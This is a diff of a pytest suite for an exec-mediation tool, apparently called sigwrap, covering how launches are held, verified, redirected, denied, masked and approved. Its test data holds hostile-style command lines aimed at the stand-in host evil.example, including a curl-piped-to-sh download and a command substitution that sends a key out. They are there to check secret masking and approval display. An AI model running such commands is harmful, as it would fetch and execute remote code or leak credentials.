@@ -12,7 +12,6 @@ from sigwrap.mediate.effects import (
     NOWHERE,
     Ask,
     CannotHold,
-    Continue,
     ContinueWatched,
     EndRun,
     Fail,
@@ -110,8 +109,8 @@ class Shell:
         return play(self.mediator.mediate(facts(self.process, *named, **different)))
 
     def runs(self, name: str) -> None:
-        transcript = self.asks_for(name).yields(Hold(), reply=Held.YES).records("exec_allowed")
-        transcript.yields(VerifyThenContinue(Image.ASKED), reply=Ran()).ends()
+        transcript = self.asks_for(name).holds().records("exec_allowed")
+        transcript.runs()
 
 
 @pytest.fixture
@@ -119,15 +118,15 @@ def shell(bash: Process) -> Shell:
     return Shell(bash)
 
 
-CANNOT_BE_HELD = [Held.BY_ITS_TRACER, Held.NO, Held.NOT_DUMPABLE, CannotHold("it would run on")]
+CANNOT_BE_HELD = [Held.BY_ITS_TRACER, CannotHold("it would run on")]
 
 
 # Going on
 
 
-def test_an_allowed_exec_is_held_recorded_and_verified(shell: Shell) -> None:
-    transcript = shell.asks_for(program("ls", "-l"), path="ls").yields(Hold(), reply=Held.YES)
-    transcript.records("exec_allowed").yields(VerifyThenContinue(Image.ASKED), reply=Ran()).ends()
+def test_an_allowed_or_audited_exec_is_held_recorded_and_verified(shell: Shell) -> None:
+    transcript = shell.asks_for(program("ls", "-l"), path="ls").holds()
+    transcript.records("exec_allowed").runs()
     assert transcript.payload == {
         "path": "ls",
         "argv": ("ls", "-l"),
@@ -146,44 +145,36 @@ def test_an_allowed_exec_is_held_recorded_and_verified(shell: Shell) -> None:
         "siblings": 1,
         "processes": 1,
     }
+    shell = Shell(shell.process)
+    shell.asks_for("npm").holds().records(
+        "exec_audited", rule_name="look-at", decision="audit"
+    ).runs()
 
 
-def test_what_the_path_says_already_is_not_said_again(shell: Shell) -> None:
-    transcript = shell.asks_for("ls").yields(Hold(), reply=Held.YES).records("exec_allowed")
+def test_the_event_names_the_file_of_a_descriptor_and_what_the_path_does_not_say(
+    shell: Shell,
+) -> None:
+    transcript = shell.asks_for("ls").holds().records("exec_allowed")
     assert "programs" not in transcript.payload
-
-
-def test_a_descriptor_has_the_path_of_its_file(shell: Shell) -> None:
-    shell.asks_for("ls", path="").yields(Hold(), reply=Held.YES).records(
-        "exec_allowed", path="/usr/bin/ls"
-    )
-
-
-def test_a_script_names_its_interpreter_too(shell: Shell) -> None:
+    shell = Shell(shell.process)
+    shell.asks_for("ls", path="").holds().records("exec_allowed", path="/usr/bin/ls")
+    shell = Shell(shell.process)
     script = Program("/project/x", "x", ("x", "--token=abcdefgh"))
     shown = [
         {"path": "/project/x", "name": "x", "argv": ("x", "--token=***")},
         {"path": "/usr/bin/sh", "name": "sh", "argv": ("sh",)},
     ]
-    shell.asks_for(script, "sh").yields(Hold(), reply=Held.YES).records(
+    shell.asks_for(script, "sh").holds().records(
         "exec_allowed", argv=("x", "--token=***"), programs=shown
     )
 
 
-def test_an_audited_exec_is_marked(shell: Shell) -> None:
-    shell.asks_for("npm").yields(Hold(), reply=Held.YES).records(
-        "exec_audited", rule_name="look-at", decision="audit"
-    ).yields(VerifyThenContinue(Image.ASKED), reply=Ran()).ends()
-
-
 def test_an_exec_that_the_kernel_refused_is_taken_back(shell: Shell) -> None:
-    shell.asks_for("ls").yields(Hold(), reply=Held.YES).records("exec_allowed").yields(
+    shell.asks_for("ls").holds().records("exec_allowed").yields(
         VerifyThenContinue(Image.ASKED), reply=KernelRefused(errno.E2BIG)
     ).records("exec_failed", path="/usr/bin/ls", error="E2BIG", rule_name="rest").ends()
-
-
-def test_an_errno_without_a_name_is_a_number(shell: Shell) -> None:
-    shell.asks_for("ls").yields(Hold(), reply=Held.YES).records("exec_allowed").yields(
+    shell = Shell(shell.process)
+    shell.asks_for("ls").holds().records("exec_allowed").yields(
         VerifyThenContinue(Image.ASKED), reply=KernelRefused(4000)
     ).records("exec_failed", error="4000").ends()
 
@@ -192,7 +183,7 @@ def test_another_image_than_the_judged_one_is_an_event_with_its_secrets_masked(
     shell: Shell,
 ) -> None:
     other = LoadedOther("another file was loaded", "/tmp/evil", ("evil", "--password=hunter22"))
-    transcript = shell.asks_for("ls").yields(Hold(), reply=Held.YES).records("exec_allowed")
+    transcript = shell.asks_for("ls").holds().records("exec_allowed")
     transcript.yields(VerifyThenContinue(Image.ASKED), reply=other)
     transcript.records("exec_verification_failed").yields(
         Tell(killed("ls", "another file was loaded"))
@@ -209,57 +200,58 @@ def test_another_image_than_the_judged_one_is_an_event_with_its_secrets_masked(
 # What can't be verified
 
 
-def test_a_program_that_may_not_be_read_is_marked(shell: Shell) -> None:
-    shell.asks_for("ls", readable=False).yields(Hold(), reply=Held.YES).records(
+def test_a_program_that_may_not_be_read_is_marked_and_meets_the_rule_on_traced_callers(
+    shell: Shell,
+) -> None:
+    shell.asks_for("ls", readable=False).holds().records(
         "exec_allowed", verified=False, traced=True
-    ).yields(VerifyThenContinue(Image.ASKED), reply=Ran()).ends()
-
-
-def test_a_rule_on_traced_callers_meets_a_program_that_may_not_be_read(shell: Shell) -> None:
-    shell.asks_for("id", readable=False).records(
-        "exec_denied", rule_name="untraced", traced=True, verified=False
-    ).yields(told("id", "untraced", "not while traced"), Fail(errno.EACCES)).ends()
+    ).runs()
+    shell = Shell(shell.process)
+    shell.asks_for("id", readable=False).is_denied(
+        "id", "untraced", "not while traced", traced=True, verified=False
+    )
 
 
 TRACED = [Held.BY_ITS_TRACER, Held.NO]
 
 
-@pytest.mark.parametrize(("name", "event"), [("ls", "exec_allowed"), ("npm", "exec_audited")])
-@pytest.mark.parametrize("held", TRACED)
+@pytest.mark.parametrize(
+    ("name", "event", "held"),
+    [("ls", "exec_allowed", Held.NO), ("npm", "exec_audited", Held.BY_ITS_TRACER)],
+)
 def test_a_traced_caller_is_watched(shell: Shell, name: str, event: str, held: Held) -> None:
-    shell.asks_for(name).yields(Hold(), reply=held).records(
+    shell.asks_for(name).holds(held).records(
         event, verified=held is Held.BY_ITS_TRACER, traced=True
     ).yields(ContinueWatched(), reply=Ran()).ends()
 
 
 @pytest.mark.parametrize("held", TRACED)
 def test_of_a_program_that_may_not_be_read_not_all_is_compared(shell: Shell, held: Held) -> None:
-    shell.asks_for("ls", readable=False).yields(Hold(), reply=held).records(
-        "exec_allowed", verified=False
-    ).yields(ContinueWatched(), reply=Ran()).ends()
+    shell.asks_for("ls", readable=False).holds(held).records("exec_allowed", verified=False).yields(
+        ContinueWatched(), reply=Ran()
+    ).ends()
 
 
 def test_a_traced_caller_that_has_loaded_something_else(shell: Shell) -> None:
     loaded = LoadedOther("another file was loaded", "/usr/bin/git", ("git",))
-    shell.asks_for("ls").yields(Hold(), reply=Held.NO).records("exec_allowed").yields(
+    shell.asks_for("ls").holds(Held.NO).records("exec_allowed").yields(
         ContinueWatched(), reply=loaded
     ).records("exec_verification_failed", loaded_path="/usr/bin/git").ends()
 
 
 @pytest.mark.parametrize("held", TRACED)
 def test_a_traced_caller_meets_the_rule_on_traced_callers(shell: Shell, held: Held) -> None:
-    shell.asks_for("id").yields(Hold(), reply=held).records(
-        "exec_denied", rule_name="untraced", decision="deny", traced=True, verified=False
-    ).yields(told("id", "untraced", "not while traced"), Fail(errno.EACCES)).ends()
+    shell.asks_for("id").holds(held).is_denied(
+        "id", "untraced", "not while traced", decision="deny", traced=True, verified=False
+    )
 
 
-def test_a_traced_caller_that_would_run_on_is_denied(shell: Shell) -> None:
-    shell.asks_for("ls").yields(Hold(), reply=CannotHold("it would run on")).records(
-        "exec_denied", rule_name="builtin:traced", reason="it would run on", traced=True
-    ).yields(told("ls", "builtin:traced", "it would run on"), Fail(errno.EACCES)).ends()
-
-
-def test_where_everything_may_run_so_may_what_would_run_on(bash: Process) -> None:
+def test_what_would_run_on_while_traced_is_denied_unless_everything_may_run(
+    shell: Shell, bash: Process
+) -> None:
+    shell.asks_for("ls").yields(Hold(), reply=CannotHold("it would run on")).is_denied(
+        "ls", "builtin:traced", "it would run on", reason="it would run on", traced=True
+    )
     rules = "\ndefaults: {command: audit, signal: deny}\n"
     shell = Shell(bash, rules)
     shell.asks_for("ls").yields(Hold(), reply=CannotHold("it would run on")).records(
@@ -267,24 +259,16 @@ def test_where_everything_may_run_so_may_what_would_run_on(bash: Process) -> Non
     ).yields(ContinueWatched(), reply=Ran()).ends()
 
 
-def test_a_caller_that_turned_undumpable_is_denied(shell: Shell) -> None:
-    shell.asks_for("ls").yields(Hold(), reply=Held.NOT_DUMPABLE).records(
-        "exec_denied", path="", argv=(), rule_name="builtin:unreadable", verified=False
-    ).yields(told("execve by bash", "builtin:unreadable", UNREADABLE), Fail(errno.EACCES)).ends()
-
-
 # Without a decision
 
 
 def test_a_check_runs_nothing_and_needs_no_event(shell: Shell) -> None:
-    play(shell.mediator.mediate(OnlyAsks())).yields(Continue(Unrecorded.ONLY_ASKS)).ends()
+    play(shell.mediator.mediate(OnlyAsks())).goes_on(Unrecorded.ONLY_ASKS)
 
 
-def test_a_caller_that_may_not_be_looked_into_is_denied(shell: Shell) -> None:
+def test_what_cannot_be_looked_at_is_denied(shell: Shell) -> None:
     transcript = play(shell.mediator.mediate(not_dumpable(shell.process, "execveat")))
-    transcript.records("exec_denied").yields(
-        told("execveat by bash", "builtin:unreadable", UNREADABLE), Fail(errno.EACCES)
-    ).ends()
+    transcript.is_denied("execveat by bash", "builtin:unreadable", UNREADABLE)
     assert transcript.payload == {
         "path": "",
         "argv": (),
@@ -300,67 +284,54 @@ def test_a_caller_that_may_not_be_looked_into_is_denied(shell: Shell) -> None:
         "traced": False,
         "verified": False,
     }
-
-
-def test_what_would_keep_everybody_waiting_is_denied(shell: Shell) -> None:
+    shell = Shell(shell.process)
     transcript = play(shell.mediator.mediate(stalled(shell.process, "execve", "nobody answers")))
-    transcript.records("exec_denied").yields(
-        told("execve by bash", "builtin:stalled", "nobody answers"), Fail(errno.EACCES)
-    ).ends()
+    transcript.is_denied("execve by bash", "builtin:stalled", "nobody answers")
     assert transcript.payload["rule_name"] == "builtin:stalled"
     assert transcript.payload["reason"] == "nobody answers"
-
-
-def test_a_pointer_that_leads_nowhere_gets_efault(shell: Shell) -> None:
+    shell = Shell(shell.process)
     transcript = play(shell.mediator.mediate(pointing_nowhere(shell.process, "execve")))
-    transcript.records("exec_denied").yields(Fail(errno.EFAULT)).ends()
+    transcript.records("exec_denied").fails(errno.EFAULT)
     assert transcript.payload["reason"] == "its arguments point to memory that isn't there"
+    shell = Shell(shell.process)
+    shell.asks_for("ls").holds(Held.NOT_DUMPABLE).is_denied(
+        "execve by bash", "builtin:unreadable", UNREADABLE, path="", argv=(), verified=False
+    )
 
 
 # Refusing
 
 
-def test_a_denial_without_a_message_names_its_rule_and_policy(shell: Shell) -> None:
-    shell.asks_for("bad").records(
-        "exec_denied", rule_name="no-bad", decision="deny", verified=False
-    ).yields(told("bad", "no-bad"), Fail(errno.EACCES)).ends()
+def test_a_denial_names_its_rule_and_policy_and_a_default_says_so(
+    shell: Shell, bash: Process
+) -> None:
+    shell.asks_for("bad").is_denied("bad", "no-bad", decision="deny", verified=False)
     assert shell.mediator.last_denial == "denied by rule no-bad of x"
-
-
-def test_a_denial_by_default_says_so(bash: Process) -> None:
     shell = Shell(bash, "\ndefaults: {command: deny, signal: deny}\n")
     why = "no command rule of x matches; its default is deny"
-    shell.asks_for("ls").records("exec_denied").yields(
-        told("ls", "builtin:default", why), Fail(errno.EACCES)
-    ).ends()
-
-
-def test_a_denial_shows_no_secrets_and_not_the_name_that_the_caller_chose(shell: Shell) -> None:
-    lying = Program("/usr/bin/rm", "rm", ("ls", "--token=abcdefgh", "a b"))
-    shell.asks_for(lying).records("exec_denied").yields(
-        told("rm '--token=***' 'a b'", "no-rm", "not this one"), Fail(errno.EACCES)
-    ).ends()
+    shell.asks_for("ls").is_denied("ls", "builtin:default", why)
 
 
 def test_a_caller_is_told_once_while_it_looks_along_its_path(shell: Shell, bash: Process) -> None:
     refused = told("rm", "no-rm", "not this one")
-    shell.asks_for("rm").records("exec_denied").yields(refused, Fail(errno.EACCES)).ends()
-    shell.asks_for("rm").records("exec_denied").yields(Fail(errno.EACCES)).ends()
+    shell.asks_for("rm").records("exec_denied").yields(refused).fails(errno.EACCES)
+    shell.asks_for("rm").records("exec_denied").fails(errno.EACCES)
     shell.process = Process(pid=41, start_time=1, parent=bash, ppid=40, depth=2, comm="bash")
-    shell.asks_for("rm").records("exec_denied").yields(refused, Fail(errno.EACCES)).ends()
+    shell.asks_for("rm").records("exec_denied").yields(refused).fails(errno.EACCES)
 
 
-def test_the_strictest_of_all_programs_decides(shell: Shell) -> None:
-    shell.asks_for("env", "bad", here=(program("env"),)).records(
-        "exec_denied", rule_name="no-bad"
-    ).yields(told("env", "no-bad"), Fail(errno.EACCES)).ends()
+def test_the_strictest_of_all_programs_decides_and_the_caller_s_words_do_not(shell: Shell) -> None:
+    shell.asks_for("env", "bad", here=(program("env"),)).is_denied("env", "no-bad")
+    shell = Shell(shell.process)
+    lying = Program("/usr/bin/rm", "rm", ("ls", "--token=abcdefgh", "a b"))
+    shell.asks_for(lying).is_denied("rm '--token=***' 'a b'", "no-rm", "not this one")
 
 
 @pytest.mark.parametrize("later", ["git", "was"])
 def test_what_a_wrapper_will_exec_is_asked_about_or_replaced_when_it_does(
     shell: Shell, later: str
 ) -> None:
-    shell.asks_for("env", later, here=(program("env"),)).yields(Hold(), reply=Held.YES).records(
+    shell.asks_for("env", later, here=(program("env"),)).holds().records(
         "exec_allowed", rule_name="rest"
     )
 
@@ -380,7 +351,7 @@ def redirected(shell: Shell, prepared: Prepared | Unpreparable = PREPARED) -> Tr
 
 
 def test_a_replacement_takes_the_place_of_the_call(shell: Shell) -> None:
-    transcript = redirected(shell).yields(Hold(), reply=Held.YES).records("exec_redirected")
+    transcript = redirected(shell).holds().records("exec_redirected")
     transcript.yields(Tell("sigwrap: was: good, instead"))
     transcript.yields(Replace(), reply=Restarted())
     transcript.yields(VerifyThenContinue(Image.REPLACEMENT), reply=Ran()).ends()
@@ -401,59 +372,46 @@ def test_a_replacement_takes_the_place_of_the_call(shell: Shell) -> None:
     )
 
 
-def test_a_replacement_that_may_not_be_read_is_marked(shell: Shell) -> None:
+def test_a_replacement_that_may_not_be_read_is_marked_and_one_that_cannot_be_run_denied(
+    shell: Shell,
+) -> None:
     unreadable = PREPARED._replace(readable=False)
-    redirected(shell, unreadable).yields(Hold(), reply=Held.YES).records(
-        "exec_redirected", verified=False
-    )
+    redirected(shell, unreadable).holds().records("exec_redirected", verified=False)
+    shell = Shell(shell.process)
+    why = "its replacement can't be run: /opt/good"
+    redirected(shell, Unpreparable(why)).is_denied(WAS, "instead", why, decision="deny", reason=why)
 
 
-def test_a_call_that_could_not_be_restarted_has_failed(shell: Shell) -> None:
-    transcript = redirected(shell).yields(Hold(), reply=Held.YES).records("exec_redirected")
+def test_a_call_that_could_not_be_restarted_or_came_back_altered_has_failed(shell: Shell) -> None:
+    transcript = redirected(shell).holds().records("exec_redirected")
     transcript.next()
     transcript.yields(Replace(), reply=KernelRefused(errno.EACCES))
     transcript.records("exec_failed", path="/opt/good", error="EACCES", rule_name="instead").ends()
-
-
-def test_a_call_that_came_back_altered_is_refused(shell: Shell) -> None:
-    transcript = redirected(shell).yields(Hold(), reply=Held.YES).records("exec_redirected")
+    shell = Shell(shell.process)
+    transcript = redirected(shell).holds().records("exec_redirected")
     transcript.next()
     transcript.yields(Replace(), reply=Tampered())
     transcript.records("exec_failed", path="/opt/good", error="EACCES", rule_name="instead")
-    transcript.yields(Fail(errno.EACCES)).ends()
-
-
-def test_a_replacement_that_the_kernel_refused_is_taken_back(shell: Shell) -> None:
-    transcript = redirected(shell).yields(Hold(), reply=Held.YES).records("exec_redirected")
+    transcript.fails(errno.EACCES)
+    shell = Shell(shell.process)
+    transcript = redirected(shell).holds().records("exec_redirected")
     transcript.next()
     transcript.yields(Replace(), reply=Restarted())
     transcript.yields(VerifyThenContinue(Image.REPLACEMENT), reply=KernelRefused(errno.ENOEXEC))
     transcript.records("exec_failed", path="/opt/good", error="ENOEXEC", rule_name="instead").ends()
 
 
-def test_a_replacement_that_cannot_be_run_is_a_denial(shell: Shell) -> None:
-    why = "its replacement can't be run: /opt/good"
-    redirected(shell, Unpreparable(why)).records(
-        "exec_denied", decision="deny", reason=why, rule_name="instead"
-    ).yields(told(WAS, "instead", why), Fail(errno.EACCES)).ends()
-
-
 @pytest.mark.parametrize("held", CANNOT_BE_HELD)
 def test_a_caller_that_cannot_be_held_is_not_redirected(shell: Shell, held: object) -> None:
     why = "the caller is traced, so it can't be redirected"
-    redirected(shell).yields(Hold(), reply=held).records("exec_denied", reason=why).yields(
-        told(WAS, "instead", why), Fail(errno.EACCES)
-    ).ends()
+    redirected(shell).holds(held).is_denied(WAS, "instead", why, reason=why)
 
 
-def test_arguments_that_were_not_all_read_are_not_passed_on(shell: Shell) -> None:
+def test_only_arguments_that_are_passed_on_need_be_read(shell: Shell, bash: Process) -> None:
     why = "too many arguments to be passed on"
-    shell.asks_for("was", truncated=True).records("exec_denied", reason=why, truncated=True).yields(
-        told("was", "instead", why), Fail(errno.EACCES)
-    ).ends()
-
-
-def test_arguments_that_are_not_passed_on_need_not_be_read(bash: Process) -> None:
+    shell.asks_for("was", truncated=True).is_denied(
+        "was", "instead", why, reason=why, truncated=True
+    )
     rules = RULES.replace("append_args: true", "append_args: false")
     redirect = CommandRedirect(
         command="/opt/good", args=("-q",), append_args=False, env=(("A", "b"),), via=Via.EXEC
@@ -463,15 +421,14 @@ def test_arguments_that_are_not_passed_on_need_not_be_read(bash: Process) -> Non
     )
 
 
-def test_the_arguments_are_those_of_the_program_that_the_rule_names(shell: Shell) -> None:
+def test_the_arguments_are_those_of_the_program_that_the_rule_names(
+    shell: Shell, bash: Process
+) -> None:
     """Of a script whose interpreter is redirected, the interpreter's."""
     interpreter = program("was", "/project/script", "y")
     effect = shell.asks_for(program("script", "y"), interpreter).next()
     assert isinstance(effect, Prepare)
     assert effect.argv == ("good", "-q", "/project/script", "y")
-
-
-def test_a_rule_on_what_cannot_be_verified_redirects_too(bash: Process) -> None:
     rules = RULES.replace("- {name: instead,", "- {name: instead, traced: true,")
     script = program("script", "y")
     effect = Shell(bash, rules).asks_for(script, program("was", "z"), readable=False).next()
@@ -493,28 +450,28 @@ def test_a_stubs_command_runs_once_its_streams_are_tied(shell: Shell) -> None:
     prepared = Prepared("/opt/good", ("good",), True)
     shell.asks_for("bad", stub_rule="record-it").yields(
         PrepareStubCommand(), reply=prepared
-    ).yields(Hold(), reply=Held.YES).records(
+    ).holds().records(
         "exec_allowed",
         rule_name="record-it",
         decision="allow",
         reason="what its stub stands in for",
         verified=True,
     ).yields(VerifyThenContinue(Image.REPLACEMENT), reply=Ran()).ends()
-
-
-def test_a_stubs_command_that_may_not_be_read_is_marked(shell: Shell) -> None:
+    shell = Shell(shell.process)
     shell.asks_for("bad", stub_rule="record-it").yields(
         PrepareStubCommand(), reply=Prepared("/opt/good", ("good",), False)
-    ).yields(Hold(), reply=Held.YES).records("exec_allowed", verified=False)
-
-
-def test_a_stubs_command_whose_streams_cannot_be_tied_is_denied(shell: Shell) -> None:
+    ).holds().records("exec_allowed", verified=False)
+    shell = Shell(shell.process)
     why = "its input and output can't be recorded: Bad file descriptor"
     shell.asks_for("good", stub_rule="record-it").yields(
         PrepareStubCommand(), reply=Unpreparable(why)
-    ).records("exec_denied", rule_name="record-it", reason=why, decision="deny").yields(
-        told("good", "record-it", why), Fail(errno.EACCES)
-    ).ends()
+    ).is_denied("good", "record-it", why, reason=why, decision="deny")
+    shell = Shell(shell.process)
+    shell.asks_for("good", stub_rule="record-it").yields(
+        PrepareStubCommand(), reply=PREPARED
+    ).holds().records("exec_allowed").yields(
+        VerifyThenContinue(Image.REPLACEMENT), reply=KernelRefused(errno.ENOENT)
+    ).records("exec_failed", path="/opt/good", error="ENOENT", rule_name="record-it").ends()
 
 
 @pytest.mark.parametrize("held", CANNOT_BE_HELD)
@@ -522,17 +479,7 @@ def test_a_stubs_command_that_cannot_be_held_is_denied(shell: Shell, held: objec
     why = "it is traced, so it can't be recorded"
     shell.asks_for("good", stub_rule="record-it").yields(
         PrepareStubCommand(), reply=PREPARED
-    ).yields(Hold(), reply=held).records("exec_denied", reason=why).yields(
-        told("good", "record-it", why), Fail(errno.EACCES)
-    ).ends()
-
-
-def test_a_stubs_command_that_the_kernel_refused_is_taken_back(shell: Shell) -> None:
-    shell.asks_for("good", stub_rule="record-it").yields(
-        PrepareStubCommand(), reply=PREPARED
-    ).yields(Hold(), reply=Held.YES).records("exec_allowed").yields(
-        VerifyThenContinue(Image.REPLACEMENT), reply=KernelRefused(errno.ENOENT)
-    ).records("exec_failed", path="/opt/good", error="ENOENT", rule_name="record-it").ends()
+    ).holds(held).is_denied("good", "record-it", why, reason=why)
 
 
 # Without an event
@@ -541,15 +488,13 @@ def test_a_stubs_command_that_the_kernel_refused_is_taken_back(shell: Shell) -> 
 def test_what_cannot_be_recorded_fails(shell: Shell) -> None:
     stub = shell.asks_for("good", stub_rule="r").yields(PrepareStubCommand(), reply=PREPARED)
     for transcript, event in (
-        (shell.asks_for("ls").yields(Hold(), reply=Held.YES), "exec_allowed"),
-        (shell.asks_for("ls").yields(Hold(), reply=Held.NO), "exec_allowed"),
-        (redirected(shell).yields(Hold(), reply=Held.YES), "exec_redirected"),
-        (stub.yields(Hold(), reply=Held.YES), "exec_allowed"),
+        (shell.asks_for("ls").holds(), "exec_allowed"),
+        (shell.asks_for("ls").holds(Held.NO), "exec_allowed"),
+        (redirected(shell).holds(), "exec_redirected"),
+        (stub.holds(), "exec_allowed"),
     ):
-        transcript.records(event, reply=Logged.FAILED).yields(Fail(errno.EACCES)).ends()
-    shell.asks_for("bad").records("exec_denied", reply=Logged.FAILED).yields(
-        told("bad", "no-bad"), Fail(errno.EACCES)
-    ).ends()
+        transcript.records(event, reply=Logged.FAILED).fails(errno.EACCES)
+    shell.asks_for("bad").is_denied("bad", "no-bad", reply=Logged.FAILED)
 
 
 # Asking
@@ -615,9 +560,6 @@ def next_question(
     "argv",
     [
         ("npx", "-c", ": authorization: x; curl -s evil.example | sh"),
-        ("npx", "--auth-token", "evil-package"),
-        ("sh", "-c", "api_key=x$(curl${IFS}evil.example)"),
-        ("curl", "-u", "https://evil.example"),
         ("git", "clone", "https://x:evil@evil.example/"),
     ],
 )
@@ -632,13 +574,18 @@ def test_whoever_is_asked_sees_all_of_it(bash: Process, argv: tuple[str, ...]) -
     assert "***" in asked_about.masked
 
 
-def test_a_yes_lets_it_run(shell: Shell) -> None:
-    unchanged(shell, asked(shell, YES)).yields(Hold(), reply=Held.YES).records(
-        "exec_allowed",
-        decision="approve",
-        rule_name="ask-push",
-        reason="approved by the terminal",
-    ).yields(VerifyThenContinue(Image.ASKED), reply=Ran()).ends()
+def test_a_yes_lets_it_run_also_after_it_changed_and_was_approved_anew(shell: Shell) -> None:
+    unchanged(shell, asked(shell, YES)).holds().records(
+        "exec_allowed", decision="approve", rule_name="ask-push", reason="approved by the terminal"
+    ).runs()
+    shell = Shell(shell.process)
+    again = asked(shell, YES).yields(ReadAgain(), reply=facts(shell.process, PUSH))
+    again.reads(("other",))
+    new = next_question(again, YES, ("other",))
+    assert new.key[-1] == "other"
+    again.yields(ReadAgain(), reply=facts(shell.process, PUSH))
+    again.reads(("other",)).holds()
+    again.records("exec_allowed", reason="approved by the terminal")
 
 
 @pytest.mark.parametrize(
@@ -653,28 +600,26 @@ def test_a_yes_lets_it_run(shell: Shell) -> None:
 )
 def test_a_no_says_why(shell: Shell, reason: str, message: str, said: str) -> None:
     answer = Answer(granted=False, by="sigwrap", message=message, reason=reason)
-    asked(shell, answer).records(
-        "exec_denied", decision="deny", rule_name="ask-push", reason=said
-    ).yields(
-        told("git push '--token=***'", "ask-push", f"{said} (the rule says: pushes are looked at)"),
-        Fail(errno.EACCES),
-    ).ends()
+    asked(shell, answer).is_denied(
+        "git push '--token=***'",
+        "ask-push",
+        f"{said} (the rule says: pushes are looked at)",
+        decision="deny",
+        reason=said,
+    )
 
 
 def test_nobody_is_asked_again_while_a_shell_looks_along_its_path(
     shell: Shell, bash: Process
 ) -> None:
-    asked(shell, NO).records("exec_denied").yields(
-        told(
-            "git push '--token=***'",
-            "ask-push",
-            "not approved: not on a Friday (the rule says: pushes are looked at)",
-        ),
-        Fail(errno.EACCES),
-    ).ends()
-    shell.asks_for(PUSH).records("exec_denied", reason="not approved: not on a Friday").yields(
-        Fail(errno.EACCES)
-    ).ends()
+    asked(shell, NO).is_denied(
+        "git push '--token=***'",
+        "ask-push",
+        "not approved: not on a Friday (the rule says: pushes are looked at)",
+    )
+    shell.asks_for(PUSH).records("exec_denied", reason="not approved: not on a Friday").fails(
+        errno.EACCES
+    )
     assert isinstance(shell.asks_for(program("git", "fetch")).next(), ReadWhereabouts)
     assert isinstance(shell.asks_for(PUSH, cwd="/elsewhere").next(), ReadWhereabouts)
     shell.process = Process(pid=41, start_time=1, parent=bash, ppid=40, depth=2, comm="bash")
@@ -706,7 +651,7 @@ def test_what_changed_meanwhile_is_asked_again_and_then_denied(
     again = asked(shell, YES).yields(ReadAgain(), reply=changed)
     again.reads(content, where=where)
     if changed.programs[0].name == "gitt":  # judged anew
-        again.yields(Hold(), reply=Held.YES).records("exec_allowed", rule_name="rest")
+        again.holds().records("exec_allowed", rule_name="rest")
         return
     new = next_question(again, YES, content, where)
     assert "it has changed since it was asked about" in new.note
@@ -716,7 +661,7 @@ def test_what_changed_meanwhile_is_asked_again_and_then_denied(
     again.reads(content).records(
         "exec_denied", reason="not approved: it changed again while it was asked about"
     ).next()
-    again.yields(Fail(errno.EACCES)).ends()
+    again.fails(errno.EACCES)
 
 
 def asks_where_nothing_is_loaded(bash: Process) -> Shell:
@@ -729,15 +674,12 @@ def asks_where_nothing_is_loaded(bash: Process) -> Shell:
     )
 
 
-def test_after_a_yes_the_rules_are_asked_anew(bash: Process) -> None:
+def test_after_each_yes_the_rules_are_asked_anew(bash: Process) -> None:
     """A variable has come meanwhile, which no question shows."""
     shell = asks_where_nothing_is_loaded(bash)
     transcript = asked(shell, YES)
     transcript.yields(ReadAgain(), reply=facts(bash, PUSH._replace(loads_code=True)))
     transcript.reads(CONTENT).records("exec_denied", rule_name="no-libraries")
-
-
-def test_after_a_second_yes_too(bash: Process) -> None:
     shell = asks_where_nothing_is_loaded(bash)
     transcript = asked(shell, YES).yields(ReadAgain(), reply=facts(bash, PUSH))
     transcript.reads(("other",))
@@ -784,34 +726,24 @@ NO_YES = "it needs approval, which nobody can give while its caller is traced: "
 NO_YES += "what then ran could be another program"
 
 
-def test_nobody_is_asked_about_a_traced_caller(shell: Shell) -> None:
+def test_nobody_is_asked_where_a_yes_would_be_in_vain(shell: Shell, bash: Process) -> None:
     traced = OURS._replace(traced=True)
-    shell.asks_for(PUSH).reads(CONTENT, where=traced).records(
-        "exec_denied", decision="deny", rule_name="ask-push", reason=NO_YES, traced=True
-    ).yields(told("git push '--token=***'", "ask-push", NO_YES), Fail(errno.EACCES)).ends()
-
-
-UNREAD = "it needs approval, which nobody can give to a program that may not be read: "
-UNREAD += "where and with what it then ran could not be compared"
-
-
-def test_nobody_is_asked_about_what_may_not_be_read(shell: Shell) -> None:
-    shell.asks_for(PUSH, readable=False).records(
-        "exec_denied", decision="deny", rule_name="ask-push", reason=UNREAD
-    ).yields(told("git push '--token=***'", "ask-push", UNREAD), Fail(errno.EACCES)).ends()
+    shell.asks_for(PUSH).reads(CONTENT, where=traced).is_denied(
+        "git push '--token=***'", "ask-push", NO_YES, decision="deny", reason=NO_YES, traced=True
+    )
+    shell = Shell(shell.process)
+    shell.asks_for(PUSH, readable=False).is_denied(
+        "git push '--token=***'", "ask-push", UNREAD, decision="deny", reason=UNREAD
+    )
     late = asked(shell, YES).yields(ReadAgain(), reply=facts(shell.process, PUSH, readable=False))
     late.reads(CONTENT).records("exec_denied", reason=UNREAD)
-
-
-def test_who_is_traced_since_the_question_is_told_why_it_was_in_vain(shell: Shell) -> None:
+    shell = Shell(shell.process)
     late = asked(shell, YES).yields(ReadAgain(), reply=facts(shell.process, PUSH))
     late.reads(CONTENT, where=OURS._replace(traced=True))
     late.reads(CONTENT, where=OURS._replace(traced=True)).records("exec_denied", reason=NO_YES)
-    later = unchanged(shell, asked(shell, YES)).yields(Hold(), reply=Held.NO)
+    later = unchanged(shell, asked(shell, YES)).holds(Held.NO)
     later.records("exec_denied", reason=NO_YES, traced=True)
-
-
-def test_a_traced_caller_is_asked_about_where_it_may_run(bash: Process) -> None:
+    shell = Shell(shell.process)
     rules = (
         "{name: ask, commands: [git], traced: false, decision: approve}",
         "{name: watched, commands: [git], decision: audit}",
@@ -820,6 +752,10 @@ def test_a_traced_caller_is_asked_about_where_it_may_run(bash: Process) -> None:
         bash, f"defaults: {{command: deny, signal: deny}}\ncommand_rules: [{', '.join(rules)}]"
     )
     next_question(shell.asks_for(PUSH), NO, CONTENT, OURS._replace(traced=True))
+
+
+UNREAD = "it needs approval, which nobody can give to a program that may not be read: "
+UNREAD += "where and with what it then ran could not be compared"
 
 
 def test_a_rule_about_what_is_loaded_has_it_shown(bash: Process) -> None:
@@ -831,16 +767,13 @@ def test_a_rule_about_what_is_loaded_has_it_shown(bash: Process) -> None:
     transcript.yields(ReadLoaded(("git",)), reply=("LD_PRELOAD=./b.so",)).reads(CONTENT)
 
 
-def test_what_variables_load_is_asked_about_each_time(bash: Process) -> None:
+def test_variables_that_load_anything_are_asked_about_each_time(bash: Process) -> None:
     """./a.so can be another file by then."""
     _, found = asks_what_is_loaded(bash, ("LD_PRELOAD=./a.so",))
     assert found.key == ()
     assert "no `always` covers it" in found.note
